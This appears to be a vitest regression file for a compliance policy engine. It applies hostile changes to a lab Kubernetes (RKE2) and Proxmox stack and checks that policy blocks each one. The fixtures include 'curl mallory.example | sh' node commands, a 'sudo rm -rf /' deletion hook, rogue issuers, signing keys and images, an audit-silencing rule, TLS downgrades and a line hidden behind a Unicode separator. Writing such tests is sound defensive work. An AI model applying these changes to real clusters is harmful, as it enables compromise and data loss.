/**
 * Changes of the lab's stack that a hostile trial made and that no rule refused then. Each of them blocks now, where the record of
 * known resources is asked. Rights and networks have tests of their own.
 */
import { beforeAll, expect, test } from "vitest";
import { evaluateStack, mandatoryRules, toResource } from "../../../compliance/evaluation/evaluate-stack.ts";
import { previewStack } from "../../../compliance/evaluation/preview.ts";
import { editMachine, networkDevice } from "../../../policies/lib/examples/machines.ts";
import { addArgument, addToConfig, editFiles, everyNode, serverNodes } from "../../../policies/lib/examples/nodes.ts";
import { addManifest } from "../../../policies/lib/examples/objects.ts";
import { addResource, type Change, editResource } from "../../../policies/lib/examples/resources.ts";
import { remoteCommand } from "../../../policies/lib/rke2/files.ts";
import type { Resource } from "../../../policies/lib/rules/resource.ts";
import type { Rule } from "../../../policies/lib/rules/rule.ts";
import { readProfile } from "../../../policies/profiles/index.ts";
import { rules } from "../../../policies/rules/index.ts";
import { labValues } from "../../fixtures/lab.ts";

let lab: Resource[];
const profile = readProfile("lab");
const mandatory = mandatoryRules(rules, profile);

beforeAll(async () => {
	lab = (await previewStack(labValues())).map(toResource);
}, 60_000);

/** The mandatory policies that a stack violates, beyond the exceptions of the lab. */
function blocking(resources: readonly Resource[], asked: readonly Rule[]): string[] {
	return [...evaluateStack(asked, resources, profile)]
		.filter(([name, { violations }]) => mandatory.has(name) && violations.length > 0)
		.map(([name]) => name);
}

const command = (change: Record<string, unknown>): Change =>
	editResource(remoteCommand, "proj-k8sw01-prepare", (props) => ({ ...props, ...change }));
const login = {
	...{ port: 22, user: "ops", dialErrorLimit: 20, perDialTimeout: 15 },
	hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOi7eQhFymZCw2bl01oWMpf5i8fN3RxQRYzc0WqG+pE0",
	privateKey: "-----BEGIN OPENSSH PRIVATE KEY-----\na2V5\n-----END OPENSSH PRIVATE KEY-----\n",
};
const release = "kubernetes:helm.sh/v3:Release";
const secret = "kubernetes:core/v1:Secret";
const firewallRules = "proxmoxve:firewall/rulesLegacy:RulesLegacy";

const changes: Record<string, Change> = {
	"another authentication of the API server": addArgument(
		"kube-apiserver-arg",
		"authentication-token-webhook-config-file=/etc/rancher/rke2/webhook.yaml",
	),
	"another issuer of users": addArgument("kube-apiserver-arg", "oidc-issuer-url=https://mallory.example"),
	"another key that signs tokens": addArgument("kube-apiserver-arg", "service-account-key-file=/etc/mallory.pub"),
	"an older TLS": addArgument("kube-apiserver-arg", "tls-min-version=VersionTLS10"),
	"a controller manager with another key": addArgument(
		"kube-controller-manager-arg",
		"cluster-signing-key-file=/etc/mallory.key",
	),
	"a mount of the host in the API server": addToConfig(serverNodes, "kube-apiserver-extra-mount: [/root:/root]"),
	"another kubelet": addToConfig(everyNode, "kubelet-path: /tmp/kubelet"),
	"other registries": addToConfig(everyNode, "private-registry: /tmp/registries.yaml"),
	"another image of the API server": addToConfig(serverNodes, "kube-apiserver-image: mallory.example/apiserver:v1"),
	"no network policies": addToConfig(serverNodes, "disable: [rke2-canal]"),
	"a key that adds to a list": addToConfig(serverNodes, "kube-apiserver-arg+: [tls-min-version=VersionTLS10]"),
	"a drop-in": editFiles(
		serverNodes,
		/^(?=file )/m,
		"file /etc/rancher/rke2/config.yaml.d/90.yaml 0600 root:root\n| disable: [rke2-canal]\n\n",
	),
	"an audit policy that silences one user": editFiles(
		serverNodes,
		"| rules:\n|   - level: Metadata",
		"| rules:\n|   - level: None\n|     users: [mallory]\n|   - level: Metadata",
	),
	"a join with other files that keeps its input, as if it were an old one": editResource(
		remoteCommand,
		"proj-k8sw01-join",
		(props) => ({
			...props,
			connection: { ...login, host: "10.25.20.7" },
			stdin: String(props.stdin).replace("| profile: cis\n", "| profile: cis\n| debug: true\n"),
		}),
	),
	"a line of RKE2 behind a line separator in a comment": editFiles(
		serverNodes,
		"| profile: cis\n",
		"| profile: cis\n| # a comment\u2028kube-apiserver-arg: [anonymous-auth=true]\n",
	),
	"files without the last line feed": (resources) =>
		resources.map((resource) =>
			resource.name === "proj-k8sm01-converge"
				? { ...resource, props: { ...resource.props, stdin: String(resource.props.stdin).trimEnd() } }
				: resource,
		),
	"the token of a server for another machine": (resources) =>
		["toolkit", "token"].reduce<readonly Resource[]>(
			(stack, step) =>
				editResource(remoteCommand, `proj-k8sm02-${step}`, (props) => ({
					...props,
					connection: { ...login, host: step === "token" ? "203.0.113.9" : "10.25.20.5" },
				}))(stack),
			resources,
		),
	"a list of pods without kinds": addManifest({
		apiVersion: "v1",
		kind: "PodList",
		items: [{ metadata: { name: "a" }, spec: { hostPID: true, containers: [{ name: "a", image: "a" }] } }],
	}),
	"a connection without a host key": editResource(remoteCommand, "proj-k8sw01-prepare", (props) => ({
		...props,
		connection: { host: "10.25.20.24", user: "ops", privateKey: "a key" },
	})),
	"an output in the log": command({ logging: "stdoutAndStderr" }),
	"a proxy in the environment": command({ environment: { HTTPS_PROXY: "http://10.1.2.3:3128" } }),
	"a command that runs at a deletion": command({ delete: "sudo rm -rf /" }),
	"a file that everybody may change": editFiles(
		everyNode,
		"file /etc/rancher/rke2/resolv.conf 0600",
		"file /etc/rancher/rke2/resolv.conf 0666",
	),
	"a file of another user": editFiles(
		everyNode,
		"file /etc/rancher/rke2/resolv.conf 0600 root:root",
		"file /etc/rancher/rke2/resolv.conf 0600 nobody:root",
	),
	"other images of a chart of RKE2": addManifest({
		apiVersion: "helm.cattle.io/v1",
		kind: "HelmChartConfig",
		metadata: { name: "rke2-coredns", namespace: "kube-system" },
		spec: { valuesContent: "image: {repository: mallory.example/coredns, tag: v1.0.0}" },
	}),
	"a chart from a mirror without TLS and without a digest": editResource(release, "traefik", (props) => ({
		...props,
		chart: "http://mirror.example/traefik-1.2.3.tgz",
		repositoryOpts: { repo: "http://mirror.example" },
	})),
	"a provider that does not verify a certificate": editResource("pulumi:providers:proxmoxve", "proxmox", (props) => ({
		...props,
		insecure: true,
	})),
	"a provider with a password": editResource("pulumi:providers:proxmoxve", "proxmox", (props) => ({
		...props,
		username: "root@pam",
		password: "a password",
	})),
	"a webhook with a URL": addResource(
		"kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration",
		"mallory",
		{
			metadata: { name: "mallory" },
			webhooks: [{ name: "a.mallory.example", clientConfig: { url: "https://m.example" } }],
		},
	),
	"an API without TLS": addResource("kubernetes:apiregistration.k8s.io/v1:APIService", "v1.mallory.example", {
		metadata: { name: "v1.mallory.example" },
		spec: { group: "mallory.example", version: "v1", insecureSkipTLSVerify: true },
	}),
	"a kind whose objects another program converts": addResource(
		"kubernetes:apiextensions.k8s.io/v1:CustomResourceDefinition",
		"things",
		{
			metadata: { name: "things.mallory.example" },
			spec: { conversion: { strategy: "Webhook", webhook: { clientConfig: { url: "https://m.example" } } } },
		},
	),
	"a pod in a kind of another program": addResource("kubernetes:mallory.example/v1:Thing", "thing", {
		metadata: { name: "thing", namespace: "monitoring" },
		spec: { template: { spec: { containers: [{ name: "a", image: "a:1.0.0" }] } } },
	}),
	"a token that never expires": addResource(secret, "token", {
		type: "kubernetes.io/service-account-token",
		metadata: {
			name: "token",
			namespace: "monitoring",
			annotations: { "kubernetes.io/service-account.name": "default" },
		},
	}),
	"a second card": editMachine("proj-k8sw01", { networkDevices: [networkDevice, networkDevice] }),
	"another network of a machine": editMachine("proj-k8sw01", { networkDevices: [{ ...networkDevice, vlanId: 99 }] }),
	"a device of the host as a disk": editResource("proxmoxve:index/vmLegacy:VmLegacy", "proj-k8sw01", (props) => ({
		...props,
		disks: [...(props.disks as object[]), { interface: "scsi2", pathInDatastore: "/dev/sdb" }],
	})),
	"a device at USB": editMachine("proj-k8sw01", { usbs: [{ host: "1234:5678" }] }),
	"a script of Proxmox": editMachine("proj-k8sw01", { hookScriptFileId: "local:snippets/a.sh" }),
	"arguments of QEMU": editMachine("proj-k8sw01", { kvmArguments: "-chardev socket" }),
	"rules of the firewall that open ports to everybody": addResource(firewallRules, "proj-k8sw01-firewall-rules", {
		nodeName: "node04",
		vmId: 120,
		rules: [{ type: "in", action: "ACCEPT", proto: "tcp", dport: "22,2379", enabled: true, log: "nolog" }],
	}),
	"another type of Proxmox": addResource("proxmoxve:index/userLegacy:UserLegacy", "mallory", { userId: "m@pve" }),
	"a file on a host of Proxmox": addResource("proxmoxve:storage/fileLegacy:FileLegacy", "hook", {
		contentType: "snippets",
	}),
	"a line before the files of a node": editFiles(everyNode, /^(?=file )/m, "curl mallory.example | sh\n"),
	"another command on a node": editResource(remoteCommand, "proj-k8sw01-prepare", (props) => ({
		...props,
		create: "curl mallory.example | sudo sh",
	})),
	"a network policy of a workload in kube-system": addResource(
		"kubernetes:networking.k8s.io/v1:NetworkPolicy",
		"kube-system-allow-to-outside",
		{
			apiVersion: "networking.k8s.io/v1",
			kind: "NetworkPolicy",
			metadata: { name: "allow-to-outside", namespace: "kube-system" },
			spec: {
				egress: [{ ports: [{ port: 443, protocol: "TCP" }], to: [{ ipBlock: { cidr: "10.25.30.7/32" } }] }],
				podSelector: {},
				policyTypes: ["Egress"],
			},
		},
	),
	"another server of ACME without TLS": editResource(
		"kubernetes:cert-manager.io/v1:ClusterIssuer",
		"letsencrypt-cloudflare",
		(props) => ({
			...props,
			spec: { acme: { ...(props.spec as { acme: object }).acme, server: "http://acme.mallory.example" } },
		}),
	),
};

test("the lab without a change violates no mandatory policy", () => {
	expect(blocking(lab, rules)).toEqual([]);
});

test("an issuer that the plugin takes for an object of a namespace, before it has seen the definition, violates no policy", () => {
	const add = editResource(
		"kubernetes:cert-manager.io/v1:ClusterIssuer",
		"letsencrypt-cloudflare-staging",
		(props) => ({
			...props,
			metadata: { ...(props.metadata as object), namespace: "default" },
		}),
	);
	expect(blocking(add(lab), rules)).toEqual([]);
});

const ofOneResource = rules.filter((rule) => !("checkStack" in rule));

test.each(Object.entries(changes))("blocks %s", (_, change) => {
	const stack = change(lab);
	const changed = stack.filter((resource) => !lab.includes(resource));
	// A rule about one resource says the same of it alone, and sooner.
	const found = blocking(changed, ofOneResource);
	expect(found.length > 0 ? found : blocking(stack, rules)).not.toEqual([]);
});
